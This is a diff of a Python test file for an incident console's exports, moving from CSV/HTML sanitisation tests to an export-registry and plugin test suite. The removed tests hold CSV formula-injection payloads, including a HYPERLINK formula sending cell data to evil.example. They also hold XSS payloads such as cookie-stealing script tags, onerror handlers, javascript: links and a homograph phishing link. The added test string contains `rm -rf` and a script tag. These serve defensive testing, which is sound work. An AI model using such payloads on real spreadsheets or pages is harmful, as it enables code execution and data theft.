@@ -1,304 +1,227 @@
-"""CSV, Markdown and HTML exports: hostile text goes in, the same text comes out, inert.
+"""The export registry: every format declared once, found by the CLI and the window, each one
+rendered from a real store and read back by its own reader.
 
-The CSV is made from a real incident's JSON export document and read back with Python's csv
-module; the HTML is read back with the standard library's HTML parser, which sees the page
-as a browser's tokenizer would.
+A format registered by another package is found through its entry point: the PDF (ui/pdf.py,
+installed with this project) and, here, a small real package written to a temporary folder and
+put on `sys.path`, as pip would install one.
 """
 
 import csv
 import io
+import json
+import re
+import subprocess
+import sys
+import textwrap
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
 
-from console import export, exports
+from console import exports, plugins
+from console.errors import InputError, NothingToExport, NotInstalled
+from console.process import load_process
+from tests.helpers import run
 
-HOSTILE_NOTES = [
-    'db1, db2 and "db3" are down; failover | pending',
-    "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
-    "+1 from Ben",
-    "-5% error rate after the rollback",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "'quoted' from the vendor's status page",
-    "'=already prefixed",
-    "<script>alert('x')</script> `rm -rf /` ```code```",
-    "first line\nsecond line, with a comma\n\nfourth \"line\"",
-    "\u202egnp.exe \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 (RTL)",
-    "tab\tinside | a | pipe | table |",
-]
+ROOT = Path(__file__).resolve().parents[2]
+HOSTILE = "db-2 lag | 40s `rm -rf` <script>alert(1)</script> שלום"
 
 
-def read_csv(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text, newline=""), strict=True))
+def _tags(page: str) -> list[str]:
+    class Tags(HTMLParser):
+        tags: list[str] = []
+
+        def handle_starttag(self, tag, attrs):
+            self.tags.append(tag)
+
+    parser = Tags()
+    parser.feed(page)
+    return parser.tags
+
+
+def _ics(data: str) -> str:
+    icalendar = pytest.importorskip("icalendar")
+    return icalendar.Calendar.from_ical(data).walk("VEVENT")[0].decoded("DTSTART").isoformat()
+
+
+def _pdf(data: bytes) -> str:
+    from pypdf import PdfReader
+
+    assert data.startswith(b"%PDF-")
+    return " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(data)).pages)
+
+
+# Each format read back by its own reader: what a person or a tool opening the file would see.
+# A format with no reader here fails `test_every_format_is_read_back_here`.
+READ_BACK = {
+    "json": lambda data: HOSTILE in [item["text"] for item in json.loads(data)["timeline"]],
+    "md": lambda data: data.startswith("# Postmortem: INC-1 Checkout down\n") and "<script>" not in data,
+    "html": lambda data: "table" in _tags(data) and "script" not in _tags(data),
+    "csv": lambda data: HOSTILE in [row[3] for row in csv.reader(io.StringIO(data))],
+    "ics": lambda data: _ics(data) == "2026-04-02T10:00:00+00:00",
+    "pdf": lambda data: "Postmortem: INC-1 Checkout down" in _pdf(data),
+}
 
 
 @pytest.fixture
-def document(service, clock):
-    incident = service.declare("Checkout down, \"badly\"", by="Ana", severity=2).incident
-    ids = []
-    for note in HOSTILE_NOTES:
-        clock.advance(seconds=30)
-        ids.append(service.log(incident.id, note, by="=Eve, \"the scribe\"").entries[0].id)
-    clock.advance(seconds=30)
-    service.set_pin(incident.id, ids[0], True, by="Ana")
-    service.revise_entry(incident.id, ids[3], "+2 from Ben, corrected", by="Ana")
-    service.retract_entry(incident.id, ids[4], by="Ana", reason="wrong graph")
-    return export.to_document(service.read, incident.id)
+def incident(service, clock):
+    """A resolved incident with a pinned hostile note and a post-mortem meeting booked."""
+    incident = service.declare("Checkout down", by="Ana", severity=2).incident
+    service.assign_role(incident.id, "ic", "Ana", by="Ana")
+    note = service.log(incident.id, HOSTILE, by="Ana").entries[0]
+    service.set_pin(incident.id, note.id, True, by="Ana")
+    clock.advance(minutes=42)
+    service.set_status(incident.id, "resolved", by="Ana")
+    meeting = clock.now().replace(year=2026, month=4, day=2, hour=10, minute=0)
+    service.set_postmortem_details(incident.id, meeting_at=meeting, by="Ana")
+    return incident
 
 
-def test_the_timeline_csv_reads_back_through_pythons_csv_reader(document):
-    text = exports.timeline_csv(document)
-    rows = read_csv(text)
-    assert rows[0] == list(exports.TIMELINE_COLUMNS) == [
-        "occurred_at", "kind", "author", "text", "recorded_at", "pinned", "retracted"]
-    assert len(rows) == 1 + len(document["timeline"])
-    assert all(len(row) == 7 for row in rows)
-    by_id = {item["id"]: item for item in document["timeline"]}
-    notes = [row for row in rows[1:] if row[1] == "note"]
-    assert [exports.from_csv_cell(row[3]) for row in notes] == [
-        "+2 from Ben, corrected" if i == 3 else note for i, note in enumerate(HOSTILE_NOTES)
-    ]
-    for row, item in zip(rows[1:], document["timeline"], strict=True):
-        assert row[0] == item["occurred_at"] and row[4] == item["recorded_at"]
-        assert row[1] == item["kind"]
-        assert exports.from_csv_cell(row[2]) == item["author"]
-        assert row[5] == ("true" if by_id[item["id"]]["pinned"] else "false")
-        assert row[6] == ("true" if item["retracted"] else "false")
-    assert notes[0][5] == "true" and notes[4][6] == "true"
+def test_the_formats_are_the_built_in_ones_and_the_pdf():
+    assert exports.names() == ["json", "md", "html", "csv", "ics", "pdf"]
+    every = exports.every()
+    assert [e.name for e in every] == exports.names()
+    assert len({e.suffix for e in every}) == len(every)
+    assert all(e.suffix.startswith(".") and e.description for e in every)
+    assert [e.name for e in every if e.binary] == ["pdf"] == [e.name for e in every if e.needs_file]
 
 
-def test_the_csv_is_rfc_4180(document):
-    text = exports.timeline_csv(document)
-    assert text.startswith('"occurred_at","kind","author","text",')
-    assert text.endswith("\r\n")
-    # Every record ends in CRLF; a line break inside a note stays inside its quotes.
-    assert text.count("\r\n") == 1 + len(document["timeline"])
-    assert '"db1, db2 and ""db3"" are down; failover | pending"' in text
-    text.encode("utf-8")  # no lone surrogates: writable as UTF-8
+def test_the_pdf_is_found_through_its_entry_point_and_only_when_asked_for():
+    import ui.pdf
+
+    assert exports.find("pdf") is ui.pdf.EXPORTER
+    assert plugins.names(plugins.EXPORTERS) == ["pdf"]
+    # A built-in format reads no package metadata (importlib.metadata alone costs ~25 ms).
+    script = ("import sys\nfrom console import exports\nexports.find('json')\n"
+              "print('importlib.metadata' in sys.modules, 'ui' in sys.modules)")
+    result = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, check=True)
+    assert result.stdout.split() == ["False", "False"]
 
 
-def test_no_cell_starts_like_a_formula(document):
-    for row in read_csv(exports.timeline_csv(document)):
-        for cell in row:
-            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
-    assert exports.to_csv_cell("=1+1") == "'=1+1"
-    assert exports.to_csv_cell("'=1+1") == "''=1+1"
-    assert exports.to_csv_cell("2026-03-29T14:00:00.000Z") == "2026-03-29T14:00:00.000Z"
+def test_every_format_is_read_back_here():
+    assert sorted(READ_BACK) == sorted(exports.names())
 
 
-@pytest.mark.parametrize("value", [
-    "", "'", "''", "'a", "=", "'=", "-", "plain", "@x", "\tx", "a=b", "'''=x",
-])
-def test_the_formula_prefix_is_always_reversible(value):
-    assert exports.from_csv_cell(exports.to_csv_cell(value)) == value
+@pytest.mark.parametrize("name", sorted(READ_BACK))
+def test_each_format_renders_the_incident_and_reads_back(service, clock, incident, name):
+    exporter = exports.find(name)
+    process = load_process() if exporter.needs_process else None
+    data = exporter.export(service.read, incident.id, process=process, now=clock.now())
+    assert isinstance(data, bytes) == exporter.binary
+    assert READ_BACK[name](data)
 
 
-def test_markdown_passes_through_with_a_trailing_newline():
-    assert exports.postmortem_markdown("# INC-1\n\ntext") == "# INC-1\n\ntext\n"
-    assert exports.postmortem_markdown("# INC-1\n") == "# INC-1\n"
-    assert exports.postmortem_markdown("") == "\n"
-    assert exports.postmortem_markdown("a <b>\\* | x\n\n") == "a <b>\\* | x\n\n"
+def test_an_unknown_incident_or_format_is_refused(service, clock):
+    with pytest.raises(InputError, match="no incident INC-9"):
+        exports.find("json").export(service.read, 9, process=None, now=clock.now())
+    with pytest.raises(InputError, match="unknown export format 'docx': expected one of json, md, html, csv, ics, pdf"):
+        exports.find("docx")
 
 
-class Page(HTMLParser):
-    """Every element and attribute of a page, and its text, as a browser would tokenize it."""
-
-    def __init__(self, text: str) -> None:
-        super().__init__(convert_charrefs=True)
-        self.tags: list[tuple[str, dict[str, str | None]]] = []
-        self.text: list[str] = []
-        self._in: list[str] = []
-        self.feed(text)
-        self.close()
-
-    def handle_starttag(self, tag, attrs):
-        self.tags.append((tag, dict(attrs)))
-        self._in.append(tag)
-
-    def handle_startendtag(self, tag, attrs):
-        self.tags.append((tag, dict(attrs)))
-
-    def handle_endtag(self, tag):
-        if tag in self._in:
-            del self._in[len(self._in) - 1 - self._in[::-1].index(tag):]
-
-    def handle_data(self, data):
-        self.text.append((self._in[-1] if self._in else "", data))
-
-    def names(self) -> list[str]:
-        return [tag for tag, _ in self.tags]
-
-    def text_in(self, tag: str) -> str:
-        return "".join(data for where, data in self.text if where == tag)
+def test_no_meeting_means_no_invitation(service, clock):
+    incident = service.declare("Checkout down", by="Ana").incident
+    with pytest.raises(NothingToExport, match="no meeting booked for INC-1"):
+        exports.find("ics").export(service.read, incident.id, process=None, now=clock.now())
 
 
-HOSTILE_MARKDOWN = """\
-# Post-mortem: INC-7 <script>alert(1)</script>
+def test_a_format_that_needs_the_process_is_not_rendered_without_it(service, clock, incident):
+    with pytest.raises(TypeError, match="needs the process"):
+        exports.find("md").export(service.read, incident.id, process=None, now=clock.now())
 
-<script>alert(document.cookie)</script>
 
-<img src=x onerror="alert(1)">
+def test_the_cli_reads_its_choices_and_help_from_the_registry(capsys):
+    with pytest.raises(SystemExit):
+        run(capsys, "export", "-h")
+    out = "".join(capsys.readouterr().out.split())  # the help is wrapped to the terminal
+    for exporter in exports.every():
+        assert "".join(f"{exporter.name}: {exporter.description}".split()) in out
+    with pytest.raises(SystemExit) as stop:
+        run(capsys, "export", "INC-1", "--format", "docx")
+    err = capsys.readouterr().err
+    assert stop.value.code == 2 and err.count("\n") == 1
+    choices = err.split("choose from", 1)[1]
+    assert all(name in choices for name in exports.names())
 
-<div onclick="alert(1)">*click*</div>
 
-Inline <b onmouseover=alert(1)>bold</b> and <iframe src="https://evil.example"></iframe>.
+def test_the_readme_lists_the_registrys_formats():
+    readme = (ROOT / "README.md").read_text(encoding="utf-8")
+    lists = [found for found in re.findall(r"export REF --format ([a-z|]+) ", readme) if "|" in found]
+    assert lists and all(sorted(formats.split("|")) == sorted(exports.names()) for formats in lists)
 
-[a link](javascript:alert(1)) · [data](data:text/html;base64,PHNjcmlwdD4=) ·
-<javascript:alert(1)> · [fine](https://status.example.org/incidents/7 "status")
 
-![graph](https://grafana.example.org/render/d/abc.png "onerror=alert(1)")
+def test_a_pdf_needs_a_file_and_goes_to_one_privately(capsys, clock, incident, tmp_path):
+    code, out, err = run(capsys, "export", "INC-1", "--format", "pdf", clock=clock)
+    assert (code, out) == (2, "") and "the pdf export needs a file: add -o FILE" in err
+    target = tmp_path / "pm.pdf"
+    code, out, _ = run(capsys, "export", "INC-1", "--format", "pdf", "-o", str(target), clock=clock)
+    assert (code, out) == (0, f"wrote {target}\n")
+    assert READ_BACK["pdf"](target.read_bytes()) and oct(target.stat().st_mode & 0o777) == "0o600"
 
-<style>body { display: none }</style>
 
-```html
-<script>alert("in a code block")</script>
-```
+# -- a format another package registers --------------------------------------------------------
 
-## Timeline
 
-| Time (UTC) | Event | Data Link |
-|---|---|---|
-| 14:02 | Page sent <script>x()</script> | [graph](https://grafana.example.org/d/1) |
-| 14:10 | Rolled back `deploy 4121` \\| pipes | <a href="x" onclick="y">n/a</a> |
+def _install(folder: Path, name: str, module: str, target: str) -> None:
+    """A real distribution in `folder`: its metadata with one exporter entry point, its module.
+    The folder goes on `sys.path`; the module leaves `sys.modules` when the test ends."""
+    info = folder / f"{name}-1.0.dist-info"
+    info.mkdir()
+    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
+    (info / "entry_points.txt").write_text(f"[{plugins.EXPORTERS}]\n{target}\n")
+    (folder / f"{name}.py").write_text(textwrap.dedent(module))
+
+
+TEXT_PLUGIN = """
+    from console.exports import Exporter
+
+    def _render(reader, incident_id, process, now):
+        reader.incident(incident_id)  # NotFound for an unknown incident
+        return "".join(f"{e.text}\\n" for e in reader.timeline(incident_id))
+
+    EXPORTER = Exporter("txt", ".txt", "the timeline as plain lines", _render)
+    NOT_ONE = "a string"
 """
 
 
-def test_hostile_markdown_renders_no_script_and_no_event_handler():
-    page_text = exports.postmortem_html(HOSTILE_MARKDOWN, title="INC-7")
-    page = Page(page_text)
-    names = page.names()
-    assert not {"script", "iframe", "div", "b", "object", "embed"} & set(names)
-    # The Markdown image is not loaded: it is a link to its address ("onerror" was only its title).
-    assert "img" not in names
-    assert {"href": "https://grafana.example.org/render/d/abc.png"} in [a for t, a in page.tags if t == "a"]
-    assert names.count("style") == 1  # ours, in the head
-    for tag, attrs in page.tags:
-        for name, value in attrs.items():
-            assert not name.startswith("on"), (tag, name)
-            if name in ("href", "src"):
-                assert value.startswith(("https:", "#")), (tag, name, value)
-    assert {"h1", "h2", "table", "thead", "tbody", "th", "td", "pre", "code", "a"} <= set(names)
-    # The typed markup is still there to read, as text.
-    body = "".join(data for _, data in page.text)
-    assert "<script>alert(document.cookie)</script>" in body
-    assert '<img src=x onerror="alert(1)">' in body
-    assert '<script>alert("in a code block")</script>' in page.text_in("code")
+@pytest.fixture
+def site(tmp_path, monkeypatch):
+    """A folder on `sys.path` to install into; what was imported from it is forgotten after."""
+    folder = tmp_path / "site"
+    folder.mkdir()
+    monkeypatch.syspath_prepend(str(folder))
+    yield folder
+    sys.modules.pop("incident_console_txt", None)
 
 
-def test_a_table_renders_as_a_table():
-    page = Page(exports.postmortem_html(HOSTILE_MARKDOWN, title="INC-7"))
-    headers = [data.strip() for where, data in page.text if where == "th" and data.strip()]
-    assert headers == ["Time (UTC)", "Event", "Data Link"]
-    assert page.names().count("tr") == 3
-    cells = page.text_in("td")
-    assert "Page sent <script>x()</script>" in cells
-    assert "| pipes" in cells
+def test_a_registered_format_is_everywhere_without_touching_the_core(capsys, clock, incident, site):
+    _install(site, "incident_console_txt", TEXT_PLUGIN, "txt = incident_console_txt:EXPORTER")
+    assert exports.names() == ["json", "md", "html", "csv", "ics", "pdf", "txt"]
+    assert exports.every()[-1].name == "txt"
+    code, out, _ = run(capsys, "export", "INC-1", "--format", "txt", clock=clock)
+    assert code == 0 and HOSTILE in out.splitlines()
+    with pytest.raises(SystemExit):
+        run(capsys, "export", "-h")
+    assert "txt:thetimelineasplainlines" in "".join(capsys.readouterr().out.split())
 
 
-def test_the_title_is_escaped_and_the_page_is_self_contained():
-    title = 'INC-7 </title><script>alert(1)</script> & "quotes"'
-    page_text = exports.postmortem_html("# x\n", title=title)
-    page = Page(page_text)
-    assert page.text_in("title") == title
-    assert "script" not in page.names()
-    assert page_text.startswith("<!DOCTYPE html>")
-    assert "@media print" in page.text_in("style")
-    csp = [a["content"] for t, a in page.tags if t == "meta" and a.get("http-equiv")]
-    assert csp == ["default-src 'none'; style-src 'unsafe-inline'; img-src data:"]
-    # Nothing is loaded from elsewhere.
-    assert not [t for t, a in page.tags if t == "link" or (t != "img" and "src" in a)]
-
-
-
-REMOTE_MARKDOWN = """\
-# Post-mortem
-
-![tracking pixel](https://tracker.example/p.png?who=reader) and ![](http://plain.example/x.gif)
-
-![local](/home/ana/.ssh/screenshot.png) ![ref image][graph]
-
-[![badge](https://badges.example/b.svg)](https://ci.example/build/7)
-
-| Time | Event |
-|---|---|
-| 14:02 | ![cell](https://cells.example/c.png) |
-
-[graph]: https://grafana.example.org/render/1.png
-"""
-
-
-def test_no_export_loads_anything_remote():
-    page_text = exports.postmortem_html(REMOTE_MARKDOWN, title="INC-7")
-    page = Page(page_text)
-    # No element fetches anything: no image, and nothing else with a source.
-    assert "img" not in page.names()
-    assert not [(t, a) for t, a in page.tags if "src" in a or t in ("link", "object", "embed", "iframe")]
-    csp = next(a["content"] for t, a in page.tags if t == "meta" and a.get("http-equiv"))
-    directives = dict(part.strip().split(" ", 1) for part in csp.split(";"))
-    assert directives["default-src"] == "'none'"
-    assert "http" not in csp and "*" not in csp and directives["img-src"] == "data:"
-    # Each image is still there to follow by hand: its address is shown as text.
-    text = "".join(data for _, data in page.text)
-    for address in ("https://tracker.example/p.png?who=reader", "http://plain.example/x.gif",
-                    "/home/ana/.ssh/screenshot.png", "https://grafana.example.org/render/1.png",
-                    "https://badges.example/b.svg", "https://cells.example/c.png"):
-        assert address in text, address
-    hrefs = [a["href"] for t, a in page.tags if t == "a"]
-    assert "https://tracker.example/p.png?who=reader" in hrefs and "https://ci.example/build/7" in hrefs
-    assert page.names().count("a") == len(hrefs)  # a linked image gives one link, not nested ones
-
-
-def test_an_inline_data_image_is_kept_as_it_loads_nothing():
-    pixel = "data:image/png;base64,iVBORw0KGgo="
-    page = Page(exports.postmortem_html(f"![dot]({pixel})\n", title="x"))
-    assert [a["src"] for t, a in page.tags if t == "img"] == [pixel]
-
-
-def visible_links(page_text: str) -> list[tuple[str, str]]:
-    """Each link's address and the text a reader sees from it to the end of its line."""
-    out = []
-    for line in page_text.splitlines():
-        for piece in line.split("<a ")[1:]:
-            href = piece.split('href="', 1)[1].split('"', 1)[0]
-            out.append((href, "".join(data for _, data in Page("<a " + piece).text)))
-    return out
-
-
-@pytest.mark.parametrize("markdown, shown", [
-    ("[https://status.example.com](https://evil.example/login)",
-     "https://status.example.com (https://evil.example/login)"),
-    ("[the runbook](https://wiki.example/rb)", "the runbook (https://wiki.example/rb)"),
-    ("[status.example.com](https://status.example.com)", "status.example.com (https://status.example.com)"),
-    ("[see][ref]\n\n[ref]: https://evil.example/r", "see (https://evil.example/r)"),
-    # A domain that only looks like a familiar one shows the address it really is.
-    ("<https://xn--pypal-4ve.com/login>", "https://p\u0430ypal.com/login (https://xn--pypal-4ve.com/login)"),
+@pytest.mark.parametrize("target, problem", [
+    ("broken = incident_console_txt:NOT_ONE", "registered as 'a string', not an Exporter named 'broken'"),
+    ("wrong = incident_console_txt:EXPORTER", "not an Exporter named 'wrong'"),
+    ("gone = incident_console_gone:EXPORTER", "'gone' (incident_console_gone:EXPORTER) will not load"),
 ])
-def test_a_link_whose_text_differs_from_its_target_shows_the_target(markdown, shown):
-    page_text = exports.postmortem_html(markdown + "\n", title="x")
-    [(href, text)] = visible_links(page_text)
-    assert text == shown
-    assert href in text
+def test_a_broken_registration_is_one_line_naming_it(capsys, clock, incident, site, target, problem):
+    _install(site, "incident_console_txt", TEXT_PLUGIN, target)
+    name = target.split(" = ")[0]
+    with pytest.raises(NotInstalled, match=re.escape(problem)):
+        exports.find(name)
+    code, out, err = run(capsys, "export", "INC-1", "--format", name, clock=clock)
+    assert (code, out) == (1, "") and problem in err and err.count("\n") == 1
+    with pytest.raises(NotInstalled):
+        exports.every()  # the window says so under the note box
 
 
-@pytest.mark.parametrize("markdown", [
-    "[https://status.example.com/](https://status.example.com/)", "<https://status.example.com/>",
-    "<ana@example.com>",
-])
-def test_a_link_that_shows_its_own_address_shows_it_once(markdown):
-    [(href, text)] = visible_links(exports.postmortem_html(markdown + "\n", title="x"))
-    assert text in href and "(" not in text
-
-
-def test_multi_line_notes_render_with_line_breaks():
-    from console.postmortem import escape_inline
-
-    note = escape_inline("first line\nsecond line\r\nthird <br> typed")
-    markdown = f"| Time | Event |\n|---|---|\n| 14:02 | {note} |\n\n- [ ] {note}\n"
-    page = Page(exports.postmortem_html(markdown, title="x"))
-    assert page.names().count("br") == 4  # two in the cell, two in the list item
-    text = "".join(data for _, data in page.text)
-    assert "first line" in text and "second line" in text
-    assert "<br>" not in text.replace("third <br> typed", "")  # the generator's breaks are breaks
-    assert text.count("third <br> typed") == 2  # a typed tag is still text
-    assert "<br>" not in page.text_in("td").replace("third <br> typed", "")
+def test_a_registered_format_may_not_replace_a_built_in_one(site):
+    _install(site, "incident_console_txt", TEXT_PLUGIN, "json = incident_console_txt:EXPORTER")
+    assert exports.find("json") is exports.BUILT_IN[0]
+    with pytest.raises(NotInstalled, match="json registered over the built-in ones"):
+        exports.every()
